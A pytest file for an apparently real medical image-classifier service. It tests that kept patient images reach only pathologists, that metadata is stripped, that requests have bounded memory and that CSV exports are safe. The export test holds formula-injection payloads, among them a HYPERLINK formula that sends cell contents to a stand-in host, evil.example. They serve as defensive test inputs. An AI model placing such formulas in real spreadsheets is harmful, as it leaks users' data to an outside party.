"""What the service must not give away, checked without a trained model: kept patient images only to
pathologists (``/explain`` by prediction id), no record ids or unbounded labels on ``/metrics``,
bounded memory per request, patient images without metadata or caching, safe CSV exports, and
corrections that are images."""

from __future__ import annotations

import csv
import hashlib
import io
from types import SimpleNamespace

import numpy as np
import pytest
from PIL import Image, PngImagePlugin
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.responses import PlainTextResponse
from starlette.routing import Route
from starlette.testclient import TestClient
from typer.testing import CliRunner

from hematovision import CLASSES, stores
from hematovision.api import errors, review_routes, service
from hematovision.api.guard import UNMATCHED, templated_metrics
from hematovision.cli import app as cli
from hematovision.model.classifier import Answers
from hematovision.serving import images
from hematovision.serving.images import ImageRejected
from hematovision.serving.prediction_log import PredictionRecord, PredictionStore
from hematovision.serving.predictor import Predictor
from hematovision.settings import get_settings

from conftest import add_user

PASSWORD = "correct horse battery"


@pytest.fixture(scope="module")
def tokens(project) -> dict[str, str]:
    """API tokens of a pathologist and an engineer made for this module."""
    out = {}
    for name, role in (("exposure-pat", "pathologist"), ("exposure-eng", "engineer")):
        add_user(name, role, password=PASSWORD)
        result = CliRunner().invoke(cli, ["users", "token", name, "--name", "exposure"])
        assert result.exit_code == 0, result.output
        out[role] = result.output.strip().splitlines()[-1]
    return out


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


# --- 1. kept images only to pathologists; /metrics by route template -----------------------------


class FakePredictor:
    """Records what /explain asked for; answers with a fixed overlay."""

    def __init__(self) -> None:
        self.calls: list[tuple] = []

    def explain(self, data, prediction_id, class_name):
        self.calls.append((data, prediction_id, class_name))
        return {"png": b"\x89PNG overlay", "label": "monocyte", "explained_class": "monocyte", "confidence": 0.9,
                "model_version": "1"}  # fmt: skip


def explain_client(predictor: FakePredictor) -> TestClient:
    async def explain(request):
        return await service.explain_response(request, predictor)

    return TestClient(Starlette(routes=[Route("/explain", explain, methods=["POST"])]))


def test_explain_by_prediction_id_needs_a_pathologist_and_is_audited(tokens):
    predictor = FakePredictor()
    client = explain_client(predictor)
    by_id = {"prediction_id": "feedc0de" * 4}

    anonymous = client.post("/explain", data=by_id, files={"unused": ("x", b"")})
    assert anonymous.status_code == 401 and anonymous.json()["error"] == "unauthorized"
    assert client.post("/explain", data=by_id).status_code == 401  # a plain form too
    engineer = client.post("/explain", data=by_id, headers=bearer(tokens["engineer"]))
    assert engineer.status_code == 403 and engineer.json()["error"] == "forbidden"
    assert predictor.calls == []  # the kept image was never read for them

    pathologist = client.post("/explain", data=by_id, headers=bearer(tokens["pathologist"]))
    assert pathologist.status_code == 200 and pathologist.headers["cache-control"] == "no-store"
    assert predictor.calls == [(None, by_id["prediction_id"], None)]
    audit = stores.corrections(get_settings()).audit_log(20)
    assert any(
        e["actor"] == "exposure-pat" and e["action"] == "view_explanation" and e["target"] == by_id["prediction_id"]
        for e in audit
    )

    # An uploaded image stays as open as /predict: anyone may have it explained.
    uploaded = client.post("/explain", files={"image": ("c.png", b"image bytes")}, data=by_id)
    assert uploaded.status_code == 200 and predictor.calls[-1][0] == b"image bytes"


def test_metrics_label_requests_by_route_template_and_unknown_paths_by_one_value():
    """BentoML's traffic-metrics middleware reads ``scope["path"]``; the service's subclass of it must
    see route templates (and one value for every unknown path) while the app inside still routes by
    the raw path. Built like BentoML builds the service's app: its own routes, the service's FastAPI
    app mounted at ``/``, the metrics middleware outermost."""
    from _bentoml_impl.server.mount import PassiveMount

    seen: list[str] = []

    class Recorder:  # stands in for BentoML's middleware: records the label it would use
        def __init__(self, app, namespace: str = "") -> None:
            self.app = app

        async def __call__(self, scope, receive, send) -> None:
            seen.append(scope["path"])
            await self.app(scope, receive, send)

    async def ok(_request):
        return PlainTextResponse("ok")

    outer = Starlette(
        routes=[Route("/predict", ok, methods=["POST"]), Route("/healthz", ok), PassiveMount("/", service.app)],
        middleware=[Middleware(templated_metrics(Recorder), namespace="x")],
    )
    client = TestClient(outer)
    assert client.get("/healthz").text == "ok"
    image = client.get("/review/image/0123456789abcdef0123456789abcdef")
    assert image.status_code == 401  # reached the review route, which read the raw path's id
    assert client.get("/ui/review.js").status_code == 200
    client.get("/ui/no-such-file-1234.js")
    client.get("/made/up/path/5678")
    client.post("/models/42/promote")
    assert seen == [
        "/healthz",
        "/review/image/{prediction_id}",
        "/ui/{path}",
        "/ui/{path}",
        UNMATCHED,
        "/models/{version}/promote",
    ]


def test_the_service_installs_the_templated_metrics_middleware():
    from bentoml._internal.server.http import instruments

    assert getattr(instruments.RunnerTrafficMetricsMiddleware, "templated", False)


# --- 2. bounded memory per request ----------------------------------------------------------------


def png(width: int, height: int) -> bytes:
    """A flat PNG: a few hundred bytes on the wire for any number of pixels."""
    buffer = io.BytesIO()
    Image.new("L", (width, height), 200).save(buffer, "PNG")
    return buffer.getvalue()


class FakeBatcher:
    """The model call, recorded: what a request hands over while it waits for its answer."""

    def __init__(self) -> None:
        self.handed: list = []

    def submit(self, classifier, images):
        self.handed.extend(images)
        n = len(images)
        return Answers(
            np.full((n, len(CLASSES)), 1 / len(CLASSES)),
            np.zeros((n, 8), np.float32),
            np.full(n, np.nan),
            np.zeros(n, bool),
        )


def fake_predictor(tmp_path, max_request_pixels: int) -> tuple[Predictor, FakeBatcher]:
    settings = get_settings()
    settings = settings.model_copy(
        update={"serving": settings.serving.model_copy(update={"max_request_pixels": max_request_pixels})}
    )
    classifier = SimpleNamespace(classes=list(CLASSES), config=SimpleNamespace(image_size=32))
    models = SimpleNamespace(current=SimpleNamespace(classifier=classifier, version="1"), loading=None)
    batcher = FakeBatcher()
    return Predictor(settings, models, batcher, PredictionStore(tmp_path / "log.sqlite")), batcher


def test_a_request_over_the_pixel_budget_is_refused_before_any_image_is_decoded(tmp_path, monkeypatch):
    predictor, batcher = fake_predictor(tmp_path, max_request_pixels=3 * 400 * 400)

    def no_decoding(*_args, **_kwargs):
        raise AssertionError("an image was decoded")

    monkeypatch.setattr(images, "load_rgb", no_decoding)
    for mode in ("raise", "return"):
        with pytest.raises(ImageRejected) as refused:
            predictor.predict([png(400, 400)] * 4, errors=mode)  # each fine alone, too many together
        assert refused.value.code == "too_many_pixels"
    assert batcher.handed == []
    answer = errors.from_serving(refused.value)
    assert answer.status == 413 and answer.code == "too_many_pixels"


def test_a_request_keeps_the_crops_not_the_decoded_pictures(tmp_path):
    predictor, batcher = fake_predictor(tmp_path, max_request_pixels=3 * 400 * 400)
    results = predictor.predict([png(400, 400), b"not an image", png(300, 200)], errors="return")
    assert [r.get("error") for r in results] == [None, "not_an_image", None]
    assert len(batcher.handed) == 2
    for prepared in batcher.handed:
        assert prepared.rgb is None and prepared.crop.shape == (32, 32, 3)  # the picture let go, the crop kept
        assert {"width", "height", "brightness"} <= set(prepared.stats)


# --- 3. patient images without metadata, never cached; downloads audited ---------------------------

SECRET = "Patient Jane Roe, MRN 0042"


def cell_picture() -> Image.Image:
    rng = np.random.default_rng(7)
    return Image.fromarray(rng.integers(0, 255, (48, 64, 3), dtype=np.uint8))


def with_metadata(fmt: str, orientation: int = 6) -> bytes:
    """A picture as a camera or LIS export might write it: EXIF with a description and an
    orientation, comments or text chunks, a colour profile."""
    picture = cell_picture()
    exif = Image.Exif()
    exif[0x010E] = SECRET  # ImageDescription
    exif[0x0112] = orientation
    buffer = io.BytesIO()
    if fmt == "JPEG":
        picture.save(buffer, "JPEG", exif=exif.tobytes(), comment=SECRET.encode(), icc_profile=SECRET.encode() * 4)
    elif fmt == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", SECRET)
        info.add_itxt("Description", SECRET, zip=True)
        picture.convert("RGBA").save(buffer, "PNG", exif=exif.tobytes(), pnginfo=info)
    else:
        picture.save(buffer, "TIFF", tiffinfo={0x010E: SECRET, 0x0112: orientation, 0x013B: SECRET})
    return buffer.getvalue()


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "TIFF"])
def test_patient_images_leave_without_metadata_but_with_the_same_pixels(fmt):
    original = with_metadata(fmt)
    stripped, media_type = images.strip_metadata(original)
    assert media_type == {"JPEG": "image/jpeg", "PNG": "image/png", "TIFF": "image/tiff"}[fmt]
    assert SECRET.encode() in original and SECRET.encode() not in stripped
    clean = Image.open(io.BytesIO(stripped))
    assert np.array_equal(np.asarray(clean), np.asarray(Image.open(io.BytesIO(original))))  # the same pixels
    assert 0x010E not in clean.getexif()
    if fmt != "TIFF":  # PIL turns a TIFF upright as it reads it; the others keep only the orientation tag
        assert clean.getexif().get(0x0112) == 6
    assert clean.info.get("icc_profile") is None and not getattr(clean, "text", {})
    assert np.array_equal(np.asarray(images.load_rgb(stripped)), np.asarray(images.load_rgb(original)))
    upright = images.strip_metadata(with_metadata(fmt, orientation=1))[0]
    assert 0x0112 not in Image.open(io.BytesIO(upright)).getexif()


def review_client() -> TestClient:
    from fastapi import FastAPI

    app = FastAPI()
    app.include_router(review_routes.router)
    errors.install(app)
    return TestClient(app)


def audited(actor: str, action: str, target: str) -> bool:
    return any(
        (e["actor"], e["action"], e["target"]) == (actor, action, target)
        for e in stores.corrections(get_settings()).audit_log(50)
    )


def test_a_review_image_is_sent_stripped_uncached_and_audited(tokens):
    original = with_metadata("JPEG")
    sha = hashlib.sha256(original).hexdigest()
    record = PredictionRecord("1", "monocyte", 0.4, {"monocyte": 0.4}, True, sha, 1.0)
    stores.prediction_log(get_settings()).log(record, original)  # flagged for review: its image is kept
    client = review_client()
    assert client.get(f"/review/image/{record.id}").status_code == 401
    response = client.get(f"/review/image/{record.id}", headers=bearer(tokens["pathologist"]))
    assert response.status_code == 200 and response.headers["content-type"] == "image/jpeg"
    assert response.headers["cache-control"] == "no-store"
    assert SECRET.encode() not in response.content
    assert np.array_equal(
        np.asarray(Image.open(io.BytesIO(response.content))), np.asarray(Image.open(io.BytesIO(original)))
    )
    assert audited("exposure-pat", "download_image", record.id)


def test_the_review_export_neutralises_formulas_and_downloads_are_audited(tokens):
    hostile = {
        "comment": '=HYPERLINK("http://evil.example/?"&A1,"see notes")',
        "plus": "+1+2",
        "minus": "-2+3",
        "at": "@SUM(A1)",
        "tab": "\t=1+1",
        "cr": "\r=1+1",
    }
    corrections = stores.corrections(get_settings())
    picture = io.BytesIO()
    cell_picture().save(picture, "PNG")
    for text in hostile.values():
        corrections.submit("exposure-pat", "monocyte", picture.getvalue(), comment=text)
    client = review_client()
    response = client.get("/feedback/export.csv", headers=bearer(tokens["engineer"]))
    assert response.status_code == 200 and response.headers["cache-control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(response.text)))
    comments = {r["comment"] for r in rows}
    for name, text in hostile.items():
        assert text not in comments, name
        assert "'" + text.strip() in comments or "'" + text in comments, name
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert audited("exposure-eng", "download_csv", "feedback/export.csv")

    report = client.get("/feedback/report.pdf", headers=bearer(tokens["engineer"]))
    assert report.status_code == 200 and report.headers["cache-control"] == "no-store"
    assert audited("exposure-eng", "download_report", "feedback/report.pdf")
